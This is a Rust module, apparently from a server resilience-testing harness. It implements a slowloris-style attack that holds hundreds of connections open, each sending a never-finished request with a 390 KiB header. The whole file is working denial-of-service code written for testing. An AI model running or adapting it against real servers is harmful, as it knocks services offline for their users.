//! Request heads of the maximum length that never end.

use super::Attacker;
use std::{collections::VecDeque, time::Duration};
use tokio::time::sleep;

/// Bytes of a request head.
const SIZE: usize = 390 << 10;
/// Connections that are open at once.
const MAX_OPEN: usize = 500;
const CONNECT_INTERVAL: Duration = Duration::from_millis(5);

/// Sends request heads without a token and without their last line.
pub async fn long_heads(attacker: Attacker) {
    let head = format!("GET /healthz HTTP/1.1\r\nX: {}", "x".repeat(SIZE));
    let mut open = VecDeque::new();
    while attacker.is_active() {
        if let Ok(stream) = attacker.send(&[head.as_bytes()]).await {
            open.push_back(stream);
        }
        if open.len() > MAX_OPEN {
            open.pop_front();
        }
        sleep(CONNECT_INTERVAL).await;
    }
}
